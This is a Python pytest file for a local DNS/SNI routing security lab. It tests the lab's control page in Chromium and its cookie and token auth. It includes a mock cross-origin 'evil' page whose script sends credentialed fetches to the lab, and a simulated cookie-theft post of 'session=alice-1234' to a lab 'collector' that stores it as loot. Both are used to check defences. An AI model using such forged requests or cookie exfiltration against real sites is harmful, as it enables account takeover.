"""The live page in real Chromium (Playwright, Debian's /usr/bin/chromium), and its auth over real HTTP."""
import asyncio
import json
import os
import re
import signal
import ssl
import subprocess
import sys
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web

from lab.run import Lab
from lab.topology import default_path
from lab.world import load

CHROMIUM = os.environ.get("SNI_LAB_CHROMIUM", "/usr/bin/chromium")
SHOTS = Path(os.environ.get("SNI_LAB_SHOTS", "/tmp/sni-lab-shots"))

try:
    from playwright.async_api import async_playwright, expect
except ImportError:  # the page tests need it; the auth and stop tests below do not
    async_playwright = None

needs_browser = pytest.mark.skipif(
    async_playwright is None or not Path(CHROMIUM).exists(),
    reason=f"needs Playwright (pip install playwright) and Chromium at {CHROMIUM} (apt-get install chromium); "
           "never a downloaded browser")


@pytest.fixture
async def lab(tmp_path_factory, tmp_path):
    certs = tmp_path_factory.getbasetemp() / "live-certs"  # one CA for the session: key generation is slow
    async with Lab(load().with_free_ports(), certs, state_dir=tmp_path / "state", verify_interval=3600,
                   model="v1") as running:
        yield running


def control(lab):
    return lab.endpoints["control"]


async def api(lab, method, path, body=None, **headers):
    async with aiohttp.ClientSession() as s:
        async with s.request(method, control(lab)["url"] + path, json=body, headers=headers) as r:
            return r.status, await r.json()


async def cookie_of(lab):
    """The cookie the token URL sets, as a browser would get it."""
    jar = aiohttp.CookieJar(unsafe=True)  # an IP address host
    async with aiohttp.ClientSession(cookie_jar=jar) as s:
        async with s.get(f"{control(lab)['url']}/?token={control(lab)['token']}", allow_redirects=False) as r:
            assert r.status == 303 and r.headers["Location"] == "/"
            set_cookie = r.headers["Set-Cookie"]
    name, value = set_cookie.split(";")[0].split("=", 1)
    return name, value, set_cookie


@pytest.fixture
async def browser():
    async with async_playwright() as p:
        b = await p.chromium.launch(executable_path=CHROMIUM)
        try:
            yield b
        finally:
            await b.close()


async def open_page(browser, lab, token=True):
    page = await browser.new_page(viewport={"width": 1280, "height": 720})
    url = control(lab)["url"] + (f"/?token={control(lab)['token']}" if token else "/")
    await page.goto(url)
    await expect(page.locator("#models button")).to_have_count(5)
    await expect(page.locator("#link")).to_have_text("live")
    return page


async def run_from_page(page, name):
    await page.locator("#tags button", has_text=re.compile("^all$")).click()
    await page.locator(f'[data-scenario="{name}"]').click()
    await expect(page.locator("#run-result")).to_contain_text(f"{name} [", timeout=30_000)


# ---- the page ---------------------------------------------------------------------
@needs_browser
async def test_token_url_sets_a_strict_cookie_and_shows_the_model(lab, browser):
    page = await open_page(browser, lab)
    assert page.url == control(lab)["url"] + "/"  # the token left the address bar
    (cookie,) = await page.context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/")
    assert cookie["value"] != control(lab)["token"]
    await expect(page.locator('#models button[aria-pressed="true"]')).to_have_text("v1")
    await expect(page.locator("#readonly")).to_be_hidden()
    await expect(page.locator("#hostnames li", has_text="shop.customer.example")).to_contain_text("active")


@needs_browser
async def test_a_scenario_button_shows_its_strip_and_verdict(lab, browser):
    page = await open_page(browser, lab)
    await run_from_page(page, "dns-poison-victim")
    top = page.locator("#strips .strip").first
    await expect(top).to_have_attribute("data-verdict", "MISROUTED")
    await expect(top).to_contain_text("www.victim.example")
    await expect(top.locator(".badge")).to_have_text("✗ MISROUTED")
    await expect(top).to_contain_text("saas")

    await page.locator('#models button[data-model="v2"]').click()
    await expect(page.locator('#models button[data-model="v2"]')).to_have_attribute("aria-pressed", "true")
    await run_from_page(page, "dns-poison-victim")
    await expect(page.locator("#strips .strip")).to_have_count(2)
    await expect(page.locator("#strips .strip").first).to_have_attribute("data-verdict", "SAFE")
    await expect(page.locator("#strips .strip").nth(1)).to_have_attribute("data-verdict", "MISROUTED")
    await expect(page.locator("#run-result")).to_contain_text("dns-poison-victim [v2]: SAFE — as expected")
    SHOTS.mkdir(parents=True, exist_ok=True)
    await page.screenshot(path=str(SHOTS / "live-test-scenarios.png"))


@needs_browser
async def test_the_model_switch_on_the_page_changes_the_lab(lab, browser):
    page = await open_page(browser, lab)
    await page.locator('#models button[data-model="v2-strict"]').click()
    await expect(page.locator('#models button[data-model="v2-strict"]')).to_have_attribute("aria-pressed", "true")
    assert (await api(lab, "GET", "/model"))[1]["model"] == lab.world.model == "v2-strict"
    # Another page (the CLI, a second laptop) switches it: this one follows.
    status, _ = await api(lab, "PUT", "/model", {"model": "host"}, Authorization=f"Bearer {control(lab)['token']}")
    assert status == 200
    await expect(page.locator('#models button[data-model="host"]')).to_have_attribute("aria-pressed", "true")


@needs_browser
async def test_without_the_token_the_page_is_read_only(lab, browser):
    page = await open_page(browser, lab, token=False)
    await expect(page.locator("#readonly")).to_be_visible()
    await expect(page.locator("#readonly")).to_contain_text("?token=")
    for b in await page.locator("#models button").all() + await page.locator("#scenarios button").all():
        await expect(b).to_be_disabled()
    r = await page.request.put(control(lab)["url"] + "/model", data={"model": "v2"})
    assert r.status == 401 and lab.world.model == "v1"
    # A wrong token is no token: no cookie, still read-only.
    await page.goto(control(lab)["url"] + "/?token=not-the-token")
    assert await page.context.cookies() == []
    await expect(page.locator("#readonly")).to_be_visible()


@needs_browser
async def test_a_page_on_another_origin_cannot_use_the_cookie(lab, browser):
    """Same site (127.0.0.1, another port), so the SameSite=Strict cookie goes along: Origin stops it."""
    target = control(lab)["url"]
    evil = web.Application()
    script = f"""<!doctype html><script>
      fetch("{target}/live/scenarios/dns-poison-victim/run", {{method: "POST", mode: "no-cors", credentials: "include"}});
      fetch("{target}/hostnames", {{method: "POST", mode: "no-cors", credentials: "include",
                                     body: JSON.stringify({{hostname: "www.victim.example"}})}});
    </script>"""

    async def home(request):
        return web.Response(text=script, content_type="text/html")

    evil.router.add_get("/", home)
    runner = web.AppRunner(evil)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = site._server.sockets[0].getsockname()[1]
    try:
        page = await open_page(browser, lab)  # the victim opened the lab's URL: the cookie is set
        hostnames = (await api(lab, "GET", "/hostnames"))[1]
        decisions = [e for e in lab.events.since(0) if e["kind"] == "route.decision"]
        async with page.expect_response(lambda r: "/live/scenarios/" in r.url) as ran, \
                page.expect_response(lambda r: r.url.endswith("/hostnames") and r.request.method == "POST") as made:
            await page.goto(f"http://127.0.0.1:{port}/")
        for r in (await ran.value, await made.value):
            assert r.status == 403  # not 401: the cookie went along, and its Origin stopped it
        assert (await api(lab, "GET", "/hostnames"))[1] == hostnames
        assert [e for e in lab.events.since(0) if e["kind"] == "route.decision"] == decisions
    finally:
        await runner.cleanup()


# ---- the auth, over plain HTTP ----------------------------------------------------
async def test_the_cookie_mutates_only_from_the_control_plane_s_own_origin(lab):
    name, value, set_cookie = await cookie_of(lab)
    assert "HttpOnly" in set_cookie and "SameSite=Strict" in set_cookie and "Path=/" in set_cookie
    cookie = {"Cookie": f"{name}={value}"}
    own = control(lab)["url"]
    for headers in ({"Origin": "http://evil.test"}, {"Origin": "null"}, {"Origin": own.replace("127.0.0.1", "localhost")},
                    {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}):
        status, body = await api(lab, "PUT", "/model", {"model": "v2"}, **cookie, **headers)
        assert status == 403 and "refused" in body["error"], headers
        assert lab.world.model == "v1"
    assert (await api(lab, "PUT", "/model", {"model": "v2"}, Cookie=f"{name}=wrong", Origin=own))[0] == 401
    assert (await api(lab, "PUT", "/model", {"model": "v2"}, **cookie, Origin=own)) == (200, {"model": "v2"})
    assert lab.world.model == "v2"
    # The CLI's Bearer token works as before, whatever the Origin.
    bearer = {"Authorization": f"Bearer {control(lab)['token']}"}
    assert (await api(lab, "PUT", "/model", {"model": "host"}, **bearer, Origin="http://evil.test"))[0] == 200


async def test_scenarios_loot_and_strips_over_the_api(lab):
    name, value, _ = await cookie_of(lab)
    status, catalog = await api(lab, "GET", "/live/scenarios")
    assert status == 200 and {"name": "dns-poison-victim", "tags": ["write-up", "dns", "attack"],
                              "title": "Poisoned DNS sends www.victim.example to the SaaS v1 address"} in catalog
    headers = {"Cookie": f"{name}={value}", "Origin": control(lab)["url"]}
    assert (await api(lab, "POST", "/live/scenarios/no-such-scenario/run", **headers))[0] == 404
    status, result = await api(lab, "POST", "/live/scenarios/dns-poison-victim/run", **headers)
    assert status == 200 and [(c["model"], c["verdict"], c["passed"]) for c in result["cases"]] == [("v1", "MISROUTED", True)]
    trace = result["cases"][0]["requests"][0]["trace"]
    status, strips = await api(lab, "GET", "/live/strips")
    assert strips[0]["trace"] == trace and strips[0]["verdict"] == "MISROUTED"

    collector = lab.world.origin_by_name["collector"].url
    trust = ssl.create_default_context(cafile=str(lab.ca.cert_path))  # the collector is https, a lab certificate
    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=trust)) as s:  # what the payload sends
        await s.post(collector + "/collect", data=json.dumps({"cookie": "session=alice-1234", "origin":
                                                              "https://www.victim.example:8443", "href": "x"}),
                     headers={"Origin": "https://www.victim.example:8443"})
    status, loot = await api(lab, "GET", "/live/loot")
    assert status == 200 and loot[0]["cookie"] == "session=alice-1234"
    assert loot[0]["page"] == "https://www.victim.example:8443"
    status, strips = await api(lab, "GET", "/live/strips")
    assert not [s for s in strips if s["request"] and s["request"]["path"] == "/collected"]  # the page's own fetch


async def test_streams_end_when_the_lab_stops(tmp_path_factory, tmp_path):
    """Two pages attached: stopping the control plane ends both streams, it does not wait for them."""
    lab = Lab(load().with_free_ports(), tmp_path_factory.getbasetemp() / "live-certs", state_dir=tmp_path / "state",
              verify_interval=3600)
    await lab.start()
    url = lab.endpoints["control"]["url"] + "/live/stream"
    try:
        async with aiohttp.ClientSession() as s:
            streams = [await s.get(url) for _ in range(2)]
            for r in streams:
                assert (await r.content.readline()).startswith(b"event: snapshot")
            # The stop must not hang on the streams (aiohttp would wait 60 s for their handlers).
            await asyncio.wait_for(lab.stop(), 10)
            for r in streams:
                await asyncio.wait_for(r.content.read(), 5)  # to the end of the stream
                assert r.content.at_eof()
    finally:
        await lab.stop()


def test_up_prints_the_page_url_with_the_token(tmp_path):
    config = tmp_path / "lab.toml"
    config.write_text(re.sub(r"(?m)^port = \d+", "port = 0", default_path().read_text()))
    proc = subprocess.Popen([sys.executable, "-m", "lab", "up", "--config", str(config), "--certs",
                             str(tmp_path / "certs"), "--state", str(tmp_path / "state")],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        lines = []
        while not any("Ctrl-C" in line for line in lines):
            line = proc.stdout.readline()
            assert line, proc.stderr.read()
            lines.append(line)
        ep = json.loads((tmp_path / "state" / "endpoints.json").read_text())
        page = next(line for line in lines if line.strip().startswith("page"))
        assert f"{ep['control']['url']}/?token={ep['control']['token']}" in page
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(10)
